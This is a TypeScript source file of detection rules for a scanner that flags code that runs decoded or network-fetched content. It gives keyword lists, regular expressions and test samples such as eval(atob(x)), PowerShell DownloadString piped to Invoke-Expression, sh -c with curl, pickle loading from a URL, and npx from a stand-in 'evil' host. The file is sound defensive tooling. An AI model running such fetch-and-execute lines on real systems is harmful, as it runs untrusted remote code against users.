/** Code that came over the network, or out of a coded string, and is run a step later or by another name. */
import type { TextRule } from '../text-rule.ts';
import { KNOWN_INSTALLERS } from './fetching-rules.ts';
import { SUBJECTS } from './subjects.ts';

const { fetching, disguise } = SUBJECTS;

export const FETCHED_CODE_RULES: readonly TextRule[] = [
  {
    id: 'runs-unpacked-text',
    subject: disguise,
    title: 'Runs code that it unpacks first',
    level: 'block',
    mayBeSpokenOf: true,
    words: [
      'decompress(',
      'b64decode(',
      'unhexlify(',
      'fromhex(',
      'b85decode(',
      'a85decode(',
      'gzinflate(',
      'base64_decode(',
      'atob(',
      'inflatesync(',
      'gunzipsync(',
      'decode64(',
    ],
    pattern:
      /(?<![.\w])(?:exec|eval|new Function|Function|assert|create_function|instance_eval|vm\.runIn\w{1,20})\s?\(\s{0,3}(?:compile\(\s?|marshal\.loads\(\s?|(?:[\w$]{1,20}\.)?(?:gzuncompress|str_rot13|inflateSync|gunzipSync|unzipSync)\(\s?){0,3}(?:__import__\(["']\w{1,12}["']\)\.|Buffer\.from\(|[\w$]{1,20}\.)?(?:decompress|b64decode|unhexlify|fromhex|b85decode|a85decode|gzinflate|base64_decode|atob|inflateSync|gunzipSync|decode64)\(/,
    finds: ['exec(z.decompress(b.b64decode("eJw")))', 'eval(atob(x))', 'eval(gzinflate(base64_decode($s)));'],
    leaves: [
      'data = zlib.decompress(b.b64decode(s))',
      'JSON.parse(atob(part))',
      'regex.exec(atob(x))',
      'Look for `eval(atob(x))`',
    ],
  },
  {
    id: 'runs-answer',
    subject: fetching,
    title: 'Runs the answer of a server',
    level: 'block',
    mayBeSpokenOf: true,
    words: [
      'fetch(',
      'downloadstring',
      'invoke-webrequest',
      'invoke-restmethod',
      'iwr ',
      'irm ',
      'file_get_contents(',
      'uri.open(',
      'open-uri',
      'net::http',
      'urlopen(',
      'requests.get(',
      'lwp::simple',
      '$(curl',
      '$(wget',
      '`curl',
      'http.get(',
      'https.get(',
    ],
    pattern: new RegExp(
      [
        String.raw`\bfetch\([^\n]{1,80}\)\.then\([^\n]{0,100}?\b(?:new Function|Function|eval|execSync|vm\.runIn\w{1,20})\s?\(`,
        String.raw`\bhttps?\.get\([^\n]{1,160}(?:\n[^\n]{0,160}){0,6}?\.on\(["']end["'][^\n]{0,40}(?:\n\s{0,12})?\b(?:eval|new Function|exec(?:Sync)?|vm\.runIn\w{1,20})\s?\(`,
        String.raw`\$(\w{1,20})\s?=[^\n]{0,100}(?:DownloadString|Invoke-WebRequest|Invoke-RestMethod|\biwr\b|\birm\b)[^\n]{0,200}\n(?:[^\n]{0,160}\n){0,4}?[^\n]{0,60}(?:Invoke-Expression|\biex\b|ScriptBlock\]::Create)[^\n]{0,20}\$\1\b`,
        String.raw`\b(\w{1,20})=["']?(?:\$\(|\x60)(?:curl|wget)\b[^\n]{1,200}\n(?:[^\n]{0,160}\n){0,4}?[^\n]{0,40}\b(?:eval|(?:ba|z)?sh -c|python3? -c|node -e)\s{1,3}["']?\$\{?\2\b`,
        String.raw`\b(?:ba|z)?sh -c ["']\$\((?:curl|wget)\b(?![^\n]{0,160}${KNOWN_INSTALLERS})[^\n]{4,160}\)`,
        String.raw`\b(?:python3?|node|perl|ruby) -[ce] ["']?\$\((?:curl|wget)\b(?![^\n]{0,160}${KNOWN_INSTALLERS})`,
        String.raw`(?<![.\w])(?:eval|include|require(?:_once)?|instance_eval|system|exec)\s?\(?\s{0,2}(?:\(|["']\?>["']\s?\.\s?)?(?:file_get_contents\(\s?["']https?:|URI\.open\(|Net::HTTP\.get\w{0,10}\(?|get\(["']https?:)`,
        String.raw`\b(?:pickle|cPickle|dill|cloudpickle|joblib|marshal)\.loads?\(\s{0,3}(?:io\.BytesIO\()?(?:[\w.]{1,30}\.)?(?:urlopen|get)\([^\n]{1,120}`,
        String.raw`\byaml\.(?:unsafe_load|load)\(\s{0,3}(?:[\w.]{1,30}\.)?(?:urlopen|requests\.get)\([^\n]{1,120}`,
      ].join('|'),
    ),
    reach: 500,
    finds: [
      'fetch(u).then(r=>r.text()).then(t=>new Function(t)())',
      '$x = (New-Object Net.WebClient).DownloadString("http://a.test/u")\nInvoke-Expression $x',
      'P=$(curl -s https://a.test/p)\neval "$P"',
      'sh -c "$(curl -fsSL https://a.test/i)"',
      "eval(file_get_contents('http://a.test/p'));",
      'm = pickle.loads(urlopen("https://a.test/m").read())',
    ],
    leaves: [
      'fetch(u).then(r => r.json()).then(render)',
      'V=$(curl -s https://a.test/version)\necho "$V"',
      'pickle.load(open("model.pkl", "rb"))',
      'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
      'Never eval(file_get_contents("http://a.test"))',
    ],
  },
  {
    id: 'runs-saved-download',
    subject: fetching,
    title: 'Saves a file from a server and runs it',
    level: 'warn',
    mayBeSpokenOf: true,
    words: ['curl', 'wget'],
    pattern: new RegExp(
      String.raw`\b(?:curl|wget)\b(?![^\n]{0,200}(?:${KNOWN_INSTALLERS}|github\.com\/))(?=[^\n]{0,200}https?:\/\/)[^\n]{0,200}?\s(?:-\w{0,5}[oO]|--output|>)\s{0,2}["']?([\w./~$-]{1,60})["']?(?:\s[^\n;&]{0,120})?(?:\n|;|&&)(?:[^\n]{0,80}\n){0,2}?\s{0,8}(?:sudo )?(?:bash|sh|python3?|node|perl|ruby|source|\.)\s{1,3}["']?\1(?![\w.])`,
    ),
    reach: 360,
    finds: ['curl -s https://a.test/x.py -o /tmp/x.py\npython3 /tmp/x.py'],
    leaves: [
      'curl -o data.json https://a.test/d\npython3 read.py data.json',
      'curl -o get.sh https://get.docker.com\nsh get.sh',
    ],
  },
  {
    id: 'runs-package-from-address',
    subject: fetching,
    title: 'Runs a package or module straight from an address',
    level: 'warn',
    mayBeSpokenOf: true,
    words: ['npx', 'bunx', 'dlx', 'uvx', 'pipx run', 'deno run', 'import('],
    pattern:
      /\b(?:npx|bunx|pnpm dlx|yarn dlx|uvx|pipx run)\b(?: -{1,2}[\w-]{1,16}){0,3}(?: -p)?[ =]["']?(?:git\+)?https?:\/\/(?!(?:www\.)?(?:github\.com|gitlab\.com|codeberg\.org|pkg\.pr\.new))[^\s"']{4,}|\bdeno run\b[^\n]{0,60} https?:\/\/(?!deno\.land|jsr\.io|esm\.sh)[^\s"']{4,}|\bimport\(\s?["'\x60]https?:\/\/(?!(?:esm\.sh|cdn\.jsdelivr\.net|unpkg\.com|cdn\.skypack\.dev|esm\.run|deno\.land|jsr\.io|(?:www\.)?example\.|localhost))[^"'\x60\n]{4,}/,
    finds: [
      'npx -y https://cdn.evil-one.test/a.tgz',
      'uvx --from git+https://git.some-one.test/x tool',
      'await import("https://a.test/m.mjs")',
    ],
    leaves: [
      'npx prettier --check .',
      'uvx --from git+https://github.com/org/repo tool',
      'import("https://esm.sh/preact")',
    ],
  },
];
